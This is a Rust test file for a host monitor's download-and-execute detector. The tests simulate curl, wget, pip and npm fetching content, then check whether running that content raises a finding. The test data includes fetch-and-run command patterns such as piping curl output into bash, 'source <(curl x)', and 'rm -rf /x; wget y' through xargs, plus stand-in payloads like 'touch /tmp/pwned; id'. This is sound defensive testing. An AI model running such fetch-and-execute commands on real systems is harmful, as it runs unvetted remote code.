//! Ways to run what came from the network, and ways to only use it.

use crate::detect::testing::{Lab, exec, kinds, open, origin, pipe};
use crate::event::{Body, Form, Reason, file, state};
use crate::finding::FindingKind::DownloadExec;
use monitor_common::exec::EXEC_STDIN_TAINTED;

const WEB: &str = "203.0.113.66:80";

/// curl (pid 15) that has received something.
fn curl(lab: &mut Lab) {
    lab.exec_with(15, 9, &["curl", "-s", "http://x/s.sh"], |e| e.stdio[1] = pipe(5));
    lab.connect(15, WEB, 1);
    lab.payload(15, WEB, 1, false, b"GET /s.sh HTTP/1.1\r\n\r\n");
    lab.payload(15, WEB, 1, true, b"HTTP/1.0 200 OK\r\n\r\ntouch /tmp/pwned; id\n");
}

fn from_pipe(lab: &mut Lab, args: &[&str]) -> usize {
    let found = lab.exec_with(16, 9, args, |e| {
        e.flags |= EXEC_STDIN_TAINTED;
        e.stdio[0] = pipe(5);
        e.origin = Some(origin(15));
    });
    assert!(found.iter().all(|d| d.kind == DownloadExec));
    found.len()
}

#[test]
fn pipes_into_interpreters() {
    for (args, hits) in [
        (&["bash"][..], 1),
        (&["sh", "-s"], 1),
        (&["python3", "-"], 1),
        (&["perl"], 1),
        (&["sh", "/dev/stdin"], 1),
        (&["bash", "-c", ". /dev/stdin"], 1),
        (&["bash", "-c", "eval \"$(cat)\""], 1),
        (&["python3", "-m", "json.tool"], 0),
        (&["sh", "-c", "wc -l"], 0),
        (&["bash", "count.sh"], 0),
        (&["jq", "."], 0),
        (&["base64", "-d"], 0),
    ] {
        let mut lab = Lab::new();
        curl(&mut lab);
        assert_eq!(from_pipe(&mut lab, args), hits, "{args:?}");
    }
}

#[test]
fn the_downloader_connects_last() {
    let mut lab = Lab::new();
    lab.exec_with(16, 9, &["bash"], |e| e.stdio[0] = pipe(5));
    lab.exec(15, 9, &["curl", "-s", "http://x"]);
    let connect = |lab: &mut Lab, to: &str| {
        let mut c = lab.connection(15, to, 1);
        c.sink_tgid = Some(16);
        lab.act_for(15, Reason::DownloadExec, Body::Connect(c))
    };
    assert!(connect(&mut lab, "10.0.0.2:53").is_empty());
    let found = connect(&mut lab, WEB);
    assert_eq!(kinds(&found), [DownloadExec]);
    assert_eq!(found[0].culprit, Lab::key(16));
    assert!(found[0].message.contains("curl") && found[0].message.contains(WEB));
}

#[test]
fn scripts_and_executables() {
    let mut lab = Lab::new();
    curl(&mut lab);
    lab.exec(20, 9, &["bash", "/tmp/logo3.jpg"]);
    let mut o = open("/tmp/logo3.jpg", file::FILE_TAINTED | file::FILE_SCRIPT, state::TASK_SHELL);
    o.origin = Some(origin(15));
    let found = lab.act(20, Body::Open(Box::new(o)));
    assert_eq!(kinds(&found), [DownloadExec]);
    assert_eq!(found[0].file.as_deref(), Some("/tmp/logo3.jpg"));
    lab.advance(20_000);
    let found = lab.exec_with(21, 9, &["/tmp/e"], |e| {
        e.exe.flags |= file::FILE_TAINTED;
        e.origin = Some(origin(15));
    });
    assert_eq!(kinds(&found), [DownloadExec]);
}

#[test]
fn data_is_no_program() {
    let mut lab = Lab::new();
    curl(&mut lab);
    lab.exec(20, 9, &["python3", "/lab/read.py", "/tmp/d.json"]);
    let tainted = file::FILE_TAINTED;
    let o = open("/tmp/d.json", tainted, state::TASK_INTERPRETER);
    assert!(lab.act(20, Body::Open(Box::new(o))).is_empty());
    // `while read …; done < <(curl …)` opens the FIFO as data; `bash <(curl …)` as its script.
    let fifo = || Box::new(open("pipe:", tainted | file::FILE_FIFO, state::TASK_SHELL));
    lab.exec(21, 9, &["bash", "-c", "while read x; do :; done < <(curl x)"]);
    assert!(lab.act(21, Body::Open(fifo())).is_empty());
    lab.exec(22, 9, &["bash", "/dev/fd/63"]);
    assert_eq!(kinds(&lab.act(22, Body::Open(fifo()))), [DownloadExec]);
    lab.advance(20_000);
    lab.exec(23, 9, &["bash", "-c", "source <(curl x)"]);
    assert_eq!(kinds(&lab.act(23, Body::Open(fifo()))), [DownloadExec]);
}

#[test]
fn package_managers_are_silent() {
    let mut lab = Lab::new();
    lab.exec(15, 9, &["python3", "/usr/bin/pip", "install", "x"]);
    lab.connect(15, WEB, 1);
    lab.payload(15, WEB, 1, true, b"PK");
    let run = |lab: &mut Lab, flags| {
        lab.exec_with(16, 9, &["/usr/local/bin/x"], |e| {
            e.exe.flags |= file::FILE_TAINTED;
            e.task_flags |= flags;
            e.origin = Some(origin(15));
        })
    };
    assert!(run(&mut lab, 0).is_empty());
    lab.exec(15, 9, &["curl", "x"]);
    assert!(run(&mut lab, state::TASK_PACKAGE_MANAGER).is_empty(), "a postinst");
    assert_eq!(kinds(&run(&mut lab, 0)), [DownloadExec]);
    // A dropped program of that name is none.
    lab.advance(20_000);
    lab.exec_with(15, 9, &["/tmp/apt-get"], |e| e.task_flags = state::TASK_DRIFT);
    assert_eq!(kinds(&run(&mut lab, 0)), [DownloadExec]);
}

#[test]
fn what_a_shell_below_a_package_manager_fetches() {
    let fetched = |above: &[&[&str]]| {
        let mut lab = Lab::new();
        let mut parent = 9;
        for (pid, args) in (15..).zip(above) {
            lab.exec(pid, parent, args);
            parent = pid;
        }
        lab.connect(parent, WEB, 1);
        lab.payload(parent, WEB, 1, true, b"PK");
        let found = lab.exec_with(30, parent, &["/tmp/x"], |e| {
            e.exe.flags |= file::FILE_TAINTED;
            e.origin = Some(origin(parent));
        });
        found.len()
    };
    let (pip, npm, shell) = (&["pip", "install", "x"][..], &["npm", "install"][..], &["sh", "-c", "x"][..]);
    assert_eq!(fetched(&[pip, &["python3", "setup.py"]]), 0, "a build script");
    assert_eq!(fetched(&[npm, shell, &["node", "install.js"]]), 0, "a life-cycle script");
    assert_eq!(fetched(&[npm, shell, &["curl", "x"]]), 1);
    assert_eq!(fetched(&[pip, &["python3", "setup.py"], shell, &["wget", "x"]]), 1);
    let mut lab = Lab::new();
    let maintainer = state::TASK_PACKAGE_MANAGER | state::TASK_PACKAGE_SCRIPT;
    lab.exec_with(15, 9, &["curl", "x"], |e| e.task_flags |= maintainer);
    lab.connect(15, WEB, 1);
    lab.payload(15, WEB, 1, true, b"PK");
    let found = lab.exec_with(16, 9, &["/tmp/x"], |e| {
        e.exe.flags |= file::FILE_TAINTED;
        e.task_flags |= maintainer;
        e.origin = Some(origin(15));
    });
    assert_eq!(kinds(&found), [DownloadExec], "a maintainer script's own download");
}

#[test]
fn a_runner_that_only_holds_a_connection() {
    let mut lab = Lab::new();
    lab.exec(15, 9, &["runner", "run"]);
    lab.connect(15, WEB, 1);
    lab.payload(15, WEB, 1, false, b"hello");
    lab.exec(20, 15, &["bash", "-e", "/tmp/job.sh"]);
    let mut o = open("/tmp/job.sh", file::FILE_TAINTED | file::FILE_SCRIPT, state::TASK_SHELL);
    o.origin = Some(origin(15));
    assert!(lab.act_for(20, Reason::DownloadExec, Body::Open(Box::new(o.clone()))).is_empty());
    lab.payload(15, WEB, 1, true, b"touch /tmp/x");
    assert_eq!(kinds(&lab.act_for(20, Reason::DownloadExec, Body::Open(Box::new(o)))), [DownloadExec]);
}

#[test]
fn the_runtime_feeds_its_exec() {
    let mut lab = Lab::new();
    let found = lab.exec_with(16, 3, &["bash", "-s"], |e| {
        e.flags |= EXEC_STDIN_TAINTED;
        e.stdio[0] = pipe(5);
        e.origin = Some(origin(3));
    });
    assert!(found.is_empty());
}

#[test]
fn text_behind_words_of_ones_own() {
    let found = |text: &str| {
        let mut lab = Lab::new();
        curl(&mut lab);
        let found = lab.exec(16, 9, &["sh", "-c", text]);
        !found.is_empty()
    };
    assert!(found("touch /tmp/pwned; id"));
    assert!(found("set -e; touch /tmp/pwned; id"));
    assert!(found("test -d /x && touch /tmp/pwned; id"));
    // A value is an argument, quoted or not; a document is data; a short end occurs by chance.
    assert!(!found("echo touch /tmp/pwned; id"));
    assert!(!found("echo \"a; touch /tmp/pwned; id\""));
    assert!(!found("cat <<E; touch /tmp/pwned; id\nE"));
    assert!(!found("echo done; id"));
}

#[test]
fn text_as_an_argument() {
    let mut lab = Lab::new();
    curl(&mut lab);
    let found = lab.exec(16, 9, &["sh", "-c", "touch /tmp/pwned; id"]);
    assert_eq!(kinds(&found), [DownloadExec]);
    assert!(found[0].alert_only);
    assert!(lab.exec(17, 9, &["sh", "-c", "echo version=1.2.3"]).is_empty());
}

/// Behind an option so long that the kernel half has not seen what follows.
#[test]
fn text_as_a_late_argument() {
    let far = "x".repeat(300);
    for line in [["python3", "-X", &far, "-c"], ["sh", "--rcfile", &far, "-c"]] {
        let given = |text: &str| {
            let mut lab = Lab::new();
            curl(&mut lab);
            let body = exec(9, &[&line[..], &[text]].concat());
            assert_eq!(body.form, Form::Unknown);
            kinds(&lab.act(16, Body::Exec(Box::new(body))))
        };
        assert_eq!(given("touch /tmp/pwned; id"), [DownloadExec], "{line:?}");
        assert!(given("echo version=1.2.3").is_empty());
    }
}

#[test]
fn xargs() {
    let run = |xargs: &[&str], text: &str| {
        let mut lab = Lab::new();
        curl(&mut lab);
        lab.exec_with(16, 9, xargs, |e| {
            e.flags |= EXEC_STDIN_TAINTED;
            e.task_flags |= state::TASK_TAINTED;
        });
        let body = exec(16, &["sh", "-c", text]);
        lab.act(17, Body::Exec(Box::new(body))).len()
    };
    assert_eq!(run(&["xargs", "-0", "sh", "-c"], "rm -rf /x; wget y"), 1);
    assert_eq!(run(&["xargs", "-n1", "sh", "-c", "echo $0"], "echo $0"), 0);
    assert_eq!(run(&["xargs", "-I{}", "sh", "-c", "wget {}"], "wget http://a/b"), 0);
    assert_eq!(run(&["awk", "{print | \"sort | head -1\"}"], "sort | head -1"), 0);
}

#[test]
fn refused_programs_and_mapped_libraries() {
    for (bit, word) in [(file::FILE_EXEC, "starts"), (file::FILE_MAPPED, "loads as code")] {
        let mut lab = Lab::new();
        curl(&mut lab);
        let mut o = open("/tmp/x.so", file::FILE_TAINTED | bit, 0);
        o.origin = Some(origin(15));
        let found = lab.act_for(16, Reason::DownloadExec, Body::Open(Box::new(o)));
        assert_eq!(kinds(&found), [DownloadExec]);
        assert!(found[0].message.contains(word), "{}", found[0].message);
    }
}

#[test]
fn a_shell_that_waits_for_the_answer() {
    let mut lab = Lab::new();
    lab.exec(15, 9, &["wget", "-qO-", "http://a/s.sh"]);
    lab.connect(15, WEB, 1);
    lab.payload(15, WEB, 1, false, b"GET /s.sh");
    let found = lab.exec_with(16, 9, &["sh"], |e| {
        e.flags |= EXEC_STDIN_TAINTED;
        e.stdio[0] = pipe(5);
        e.origin = Some(origin(15));
    });
    assert!(found.is_empty(), "nothing has come yet");
    let found = lab.payload(15, WEB, 1, true, b"touch /tmp/x");
    assert_eq!(kinds(&found), [DownloadExec]);
    assert_eq!(found[0].culprit, Lab::key(16));
    assert!(lab.payload(15, WEB, 1, true, b"more").is_empty(), "once is enough");
}

#[test]
fn text_that_came_after_xargs_was_there() {
    let run = |reads: u64, text: &str| {
        let mut lab = Lab::new();
        lab.exec_with(15, 9, &["curl", "-s", "http://a/s.sh"], |e| e.stdio[1] = pipe(5));
        lab.exec_with(16, 9, &["xargs", "-0", "sh", "-c"], |e| e.stdio[0] = pipe(reads));
        lab.connect(15, WEB, 1);
        lab.payload(15, WEB, 1, true, b"HTTP/1.1 200 OK\r\n\r\n");
        lab.payload(15, WEB, 1, true, b"touch /tmp/x; id\n");
        kinds(&lab.exec(17, 16, &["sh", "-c", text]))
    };
    assert_eq!(run(5, "touch /tmp/x; id\n"), [DownloadExec]);
    assert!(run(6, "touch /tmp/x; id\n").is_empty(), "another pipe");
    assert!(run(5, "echo done > /tmp/y").is_empty(), "a text of its own");
}
